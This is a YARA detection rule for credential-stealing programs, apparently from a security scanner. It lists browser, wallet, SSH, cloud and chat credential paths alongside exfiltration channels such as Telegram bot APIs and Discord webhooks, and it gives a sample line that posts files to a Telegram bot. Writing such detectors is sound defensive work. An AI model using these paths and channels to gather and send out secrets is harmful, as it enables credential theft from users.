// Credential stealers: many credential stores read by one program that also sends data out.

rule credential_stealer
{
    meta:
        id = "yara.credential-stealer"
        severity = "CRITICAL"
        category = "credential_access"
        title = "Credential-stealer string set"
        why = "One program names many unrelated credential stores (browser logins and cookies, wallets, chat sessions, SSH and cloud keys) together with a drop channel such as a chat-bot API or a webhook: the signature of an information stealer, not of a tool that manages one of them."
        remediation = "Remove the code; a skill reads only the credentials of the service it works with, with the user's consent."
        hit = "paths = ['Login Data', 'Cookies', 'logins.json', 'key4.db', 'wallet.dat', '.aws/credentials']\nrequests.post('https://api.telegram.org/bot123/sendDocument', files=f)"
        miss = "Never commit `.aws/credentials`, `wallet.dat` or browser `Login Data` files. Report to https://discord.com/channels/123/456."

    strings:
        $s1 = "Login Data" ascii wide
        $s2 = "Web Data" ascii wide
        $s3 = "logins.json" ascii wide
        $s4 = "key4.db" ascii wide
        $s5 = "cookies.sqlite" ascii wide
        $s6 = "wallet.dat" ascii wide
        $s7 = "Local State" ascii wide
        $s8 = "encrypted_key" ascii wide
        $s9 = "CryptUnprotectData" ascii wide
        $s10 = "Telegram Desktop" ascii wide
        $s11 = "tdata" ascii wide fullword
        $s12 = /\.aws[\/\\]credentials/ ascii wide
        $s13 = /\.ssh[\/\\]id_(rsa|ed25519|ecdsa)/ ascii wide
        $s14 = "nkbihfbeogaeaoehlefnkodbefgpgknn" ascii wide
        $s15 = /Exodus[\/\\]exodus\.wallet/ ascii wide nocase
        $s16 = /Electrum[\/\\]wallets/ ascii wide nocase
        $s17 = /discord[\/\\]Local Storage/ ascii wide nocase
        $s18 = /\.(bash|zsh)_history/ ascii wide
        $s19 = "Cookies" ascii wide fullword
        $s20 = /\.config[\/\\]gcloud/ ascii wide
        $d1 = /api\.telegram\.org\/bot/ ascii wide
        $d2 = /discord(app)?\.com\/api\/webhooks\// ascii wide
        $d3 = "sendDocument" ascii wide
        $d4 = /webhook\.site|requestbin|pipedream\.net|transfer\.sh|anonfiles|file\.io|pastebin\.com\/api/ ascii wide
        $d5 = /https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/ ascii wide

    condition:
        4 of ($s*) and any of ($d*)
}
